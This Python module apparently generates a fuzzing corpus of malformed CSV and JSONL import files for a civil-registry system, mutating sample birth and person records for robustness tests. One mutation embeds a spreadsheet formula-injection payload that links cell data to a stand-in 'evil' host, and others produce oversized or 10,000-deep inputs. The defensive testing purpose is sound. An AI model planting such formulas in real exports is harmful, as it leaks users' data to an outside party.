"""A corpus of malformed import files, built from real synthetic files by one mutation each.

Each mutation is what a clerk, a spreadsheet program or an attacker produces: wrong encodings, broken
quoting, missing or doubled columns, fields too long, dates in other formats or centuries, values a
spreadsheet would run as formulas, JSON that is not an object or nests ten thousand deep. The tests
import every file and check the invariants, not a hard-coded verdict per file.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

Rows = list[dict[str, str]]


@dataclass(frozen=True)
class Sample:
    kind: str
    role: str
    columns: list[str]
    rows: Rows  # a few rows of a real synthetic file, not yet in the database


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    role: str
    path: Path


def csv_text(columns: list[str], rows: Rows, *, delimiter: str = ",", newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([row.get(c, "") for c in columns])
    return out.getvalue()


def jsonl_text(rows: Rows) -> str:
    return "".join(json.dumps({k: v for k, v in row.items() if v != ""}) + "\n" for row in rows)


def _first_text_column(sample: Sample) -> str:
    for column in ("full_name", "name", "child_name", "note", "kind"):
        if column in sample.columns:
            return column
    return sample.columns[-1]


def _date_column(sample: Sample) -> str | None:
    for column in sample.columns:
        if column.endswith(("_on", "_date", "_until")) or column == "born_on":
            return column
    return None


def _with(sample: Sample, column: str | None, value: str) -> Rows:
    if column is None:
        return sample.rows
    return [{**sample.rows[0], column: value}, *sample.rows[1:]]


# name -> (sample -> file bytes, file suffix)
Mutation = Callable[[Sample], tuple[bytes, str]]


def _csv(text: str) -> tuple[bytes, str]:
    return text.encode("utf-8"), ".csv"


def _mutations() -> dict[str, Mutation]:
    m: dict[str, Mutation] = {}
    m["valid"] = lambda s: _csv(csv_text(s.columns, s.rows))
    m["empty-file"] = lambda s: (b"", ".csv")
    m["header-only"] = lambda s: _csv(csv_text(s.columns, []))
    m["byte-order-mark"] = lambda s: (b"\xef\xbb\xbf" + csv_text(s.columns, s.rows).encode(), ".csv")
    m["latin-1-byte"] = lambda s: (
        csv_text(s.columns, _with(s, _first_text_column(s), "Ni Luh Caf\u00e9")).encode("latin-1", "replace"),
        ".csv",
    )
    m["nul-byte"] = lambda s: _csv(csv_text(s.columns, _with(s, _first_text_column(s), "Siti\x00Aminah")))
    m["truncated-mid-row"] = lambda s: (csv_text(s.columns, s.rows).encode()[:-7], ".csv")
    m["unbalanced-quote"] = lambda s: _csv(csv_text(s.columns, s.rows) + '"unterminated,' + "x\n")
    m["extra-header-column"] = lambda s: _csv(csv_text([*s.columns, "colour"], s.rows))
    m["missing-required-column"] = lambda s: _csv(csv_text(s.columns[1:], s.rows))
    m["doubled-header-column"] = lambda s: _csv(csv_text([*s.columns, s.columns[0]], s.rows))
    m["semicolon-delimiter"] = lambda s: _csv(csv_text(s.columns, s.rows, delimiter=";"))
    m["crlf-line-endings"] = lambda s: _csv(csv_text(s.columns, s.rows, newline="\r\n"))
    m["row-with-too-many-fields"] = lambda s: _csv(csv_text(s.columns, s.rows) + ",".join(["x"] * 60) + "\n")
    m["one-megabyte-field"] = lambda s: _csv(
        csv_text(s.columns, _with(s, _first_text_column(s), "A" * 999_000))
    )
    m["two-megabyte-field"] = lambda s: _csv(
        csv_text(s.columns, _with(s, _first_text_column(s), "A" * 2_000_000))
    )
    m["spreadsheet-formulas"] = lambda s: _csv(
        csv_text(s.columns, _with(s, _first_text_column(s), '=HYPERLINK("http://evil/?"&A1)'))
    )
    m["day-first-date"] = lambda s: _csv(csv_text(s.columns, _with(s, _date_column(s), "31/12/2024")))
    m["year-one-date"] = lambda s: _csv(csv_text(s.columns, _with(s, _date_column(s), "0001-01-01")))
    m["far-future-date"] = lambda s: _csv(csv_text(s.columns, _with(s, _date_column(s), "9999-12-31")))
    m["impossible-date"] = lambda s: _csv(csv_text(s.columns, _with(s, _date_column(s), "2024-02-30")))
    m["negative-number"] = lambda s: _csv(
        csv_text(s.columns, _with(s, "birth_weight_g" if "birth_weight_g" in s.columns else None, "-3000"))
    )
    m["padded-values"] = lambda s: _csv(
        csv_text(s.columns, [{k: f"  {v}  " if v else v for k, v in r.items()} for r in s.rows])
    )
    m["duplicate-row"] = lambda s: _csv(csv_text(s.columns, [s.rows[0], *s.rows]))
    m["unknown-region"] = lambda s: _csv(
        csv_text(s.columns, _with(s, "region_code" if "region_code" in s.columns else None, "99.99"))
    )
    m["letters-in-nik"] = lambda s: _csv(
        csv_text(s.columns, _with(s, "nik" if "nik" in s.columns else None, "33740142O3940OO1"))
    )
    m["binary-garbage"] = lambda s: (bytes(range(256)) * 40, ".csv")
    m["jsonl-valid"] = lambda s: (jsonl_text(s.rows).encode(), ".jsonl")
    m["jsonl-nested-10000-deep"] = lambda s: (
        (jsonl_text(s.rows[:1]) + '{"ref": ' + "[" * 10_000 + "]" * 10_000 + "}\n").encode(),
        ".jsonl",
    )
    m["jsonl-not-objects"] = lambda s: (b'[1, 2]\n"text"\n42\nnull\n', ".jsonl")
    m["jsonl-nan-and-huge-number"] = lambda s: (
        (jsonl_text(s.rows[:1])[:-2] + ', "birth_weight_g": NaN}\n{"ref": 1' + "0" * 5000 + "}\n").encode(),
        ".jsonl",
    )
    m["jsonl-wrong-types"] = lambda s: (
        json.dumps({c: [1, {"x": None}] for c in s.columns}).encode() + b"\n",
        ".jsonl",
    )
    return m


MUTATIONS = _mutations()


# Columns whose values must be new for a record to be created: fresh in every file, so that each file's
# unmutated rows would be accepted by a registry that already holds the province and the earlier files.
FRESH = {"ref", "akta_number", "skl_number", "report_number", "licence_number", "registration_number"}
CREATED_CHILD = {"births"}  # a birth creates its child's person record; elsewhere child_ref points at one
BLANKED = {"nik", "child_nik"}


def fresh(sample: Sample, number: int) -> Sample:
    """The sample with new values wherever a value must be unique, and no NIKs."""

    def value(column: str, old: str, row: int) -> str:
        if not old:
            return old
        if column in BLANKED:
            return ""
        if column == "nip":  # 18 digits
            return old[:-5] + f"{number % 1000:03d}{row:02d}"
        if column in FRESH or (column == "child_ref" and sample.kind in CREATED_CHILD):
            return f"{old}X{number}R{row}"
        return old

    rows = [{c: value(c, v, i) for c, v in row.items()} for i, row in enumerate(sample.rows)]
    return Sample(sample.kind, sample.role, sample.columns, rows)


def build(
    samples: list[Sample], folder: Path, names: list[str] | None = None, *, series: int = 0
) -> list[Case]:
    """One file per sample and mutation (or only the mutations named). Corpora of different `series` use
    different fresh values, so one can be imported after another into the same registry."""
    cases = []
    for sample in samples:
        for number, (name, mutate) in enumerate(MUTATIONS.items()):
            if names is not None and name not in names:
                continue
            content, suffix = mutate(fresh(sample, series * len(MUTATIONS) + number))
            path = folder / f"{sample.kind}-{name}{suffix}"
            path.write_bytes(content)
            cases.append(Case(name, sample.kind, sample.role, path))
    return cases
